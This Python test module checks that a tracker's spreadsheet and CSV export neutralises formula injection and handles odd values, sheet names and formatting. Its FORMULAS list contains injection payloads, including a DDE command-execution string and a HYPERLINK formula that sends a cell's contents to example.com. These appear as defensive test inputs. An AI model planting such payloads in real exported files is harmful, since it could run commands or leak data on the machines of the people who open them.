"""What goes out stays text, whatever it starts with, and a spreadsheet can open it."""

import csv
import zipfile
from datetime import UTC, date, datetime
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl.reader.excel import ExcelReader

from tracker.core.workbooks import SheetOut, read_workbook, write_csv, write_workbook
from tracker.core.workbooks.child import clean
from tracker.core.workbooks.separated import neutral, original

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "|calc",
    "%0A=1",
    '=HYPERLINK("http://example.com?"&A1,"x")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u200b=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u00a0@x",
    "=1+1;=2+2",
    "'=1+1",
    '"=1+1"',
]


def read_rows(data: bytes, name: str = "a.xlsx") -> list[list[str]]:
    return read_workbook(data, name)[0].rows


@pytest.mark.parametrize("text", [*FORMULAS, "#N/A", "#REF!", "00123", "_x0041_", "多行\n文字", "TRUE", "1,234"])
def test_a_text_goes_out_as_text_and_comes_back_unchanged(text: str) -> None:
    sheet = SheetOut("a", [text, "b"], [["x", text]])
    data = write_workbook([sheet])
    with zipfile.ZipFile(BytesIO(data)) as archive:
        content = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in content
    assert b't="e"' not in content
    assert read_rows(data) == [[clean(text), "b"], ["x", clean(text)]]
    assert read_rows(write_csv(sheet), "a.csv") == [[clean(text), "b"], ["x", clean(text)]]


@pytest.mark.parametrize("text", [*FORMULAS, "\t=1", "\r=1", "\n=1", "\x00=1", "−1+1", "﹦1", "-", "+"])
def test_no_csv_cell_starts_a_formula(text: str) -> None:
    read = list(csv.reader(StringIO(write_csv(SheetOut("a", ["h"], [[text]])).decode("utf-8-sig"), newline="")))
    assert read[1][0].startswith("'") or text == '"=1+1"'


@pytest.mark.parametrize("text", ["-5", "+3.2", "-1,234.5", "-85%", "1e-3", "-1e5", "A-1", "", "门店"])
def test_plain_numbers_and_words_go_to_csv_as_they_are(text: str) -> None:
    assert neutral(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@|%1a \t\n＝"), max_size=8))
def test_neutral_can_be_taken_back(text: str) -> None:
    assert original(neutral(text)) == text


@hypothesis_settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(max_size=20), st.integers(), st.floats(), st.none(), st.dates())), max_size=4))
def test_no_value_breaks_an_export(rows: list[list[object]]) -> None:
    sheet = SheetOut("a", ["x"], rows)  # type: ignore[arg-type]
    book = write_workbook([sheet])
    assert zipfile.ZipFile(BytesIO(book)).testzip() is None
    assert write_csv(sheet).startswith(b"\xef\xbb\xbf")


def test_what_a_workbook_cannot_hold_is_replaced_or_cut() -> None:
    sheet = SheetOut("a", ["h"], [["a\x00b\x0bc\ud800d\uffff"], ["x" * 40_000], ["😀" * 20_000], [float("nan")], [10**18]])
    rows = read_rows(write_workbook([sheet]))
    assert rows[1] == ["a\ufffdb\ufffdc\ufffdd"]
    assert len(rows[2][0]) == 32_767
    assert rows[3][0] == "😀" * 16_383
    assert rows[5] == ["1000000000000000000"]


def test_a_sheet_reads_well_in_a_spreadsheet() -> None:
    moment = datetime(2026, 3, 1, 18, 30, tzinfo=UTC)
    data = write_workbook(
        [SheetOut("任务", ["代码", "Due on"], [["00123", date(2026, 3, 1)], ["一个很长很长很长的名称", moment]], ("代码",))]
    )
    reader = ExcelReader(BytesIO(data))
    reader.read()
    page = reader.wb.active
    assert page.freeze_panes == "A2"
    assert page["A1"].font.bold
    assert page.column_dimensions["A"].width > 20
    assert page.column_dimensions["A"].number_format == "@"
    assert page["B2"].is_date
    assert read_rows(data)[2] == ["一个很长很长很长的名称", "2026-03-01 18:30:00"]


def test_sheet_names_are_made_valid_and_different() -> None:
    names = ["a/b:c", "A b c", "x" * 40, "x" * 40, "'quoted'", "", "History", "[1]*?"]
    data = write_workbook([SheetOut(name, ["h"], []) for name in names])
    written = [sheet.name for sheet in read_workbook(data, "a.xlsx")]
    assert written == ["a b c", "A b c 2", "x" * 31, "x" * 29 + " 2", "quoted", "Sheet", "History 2", "1"]
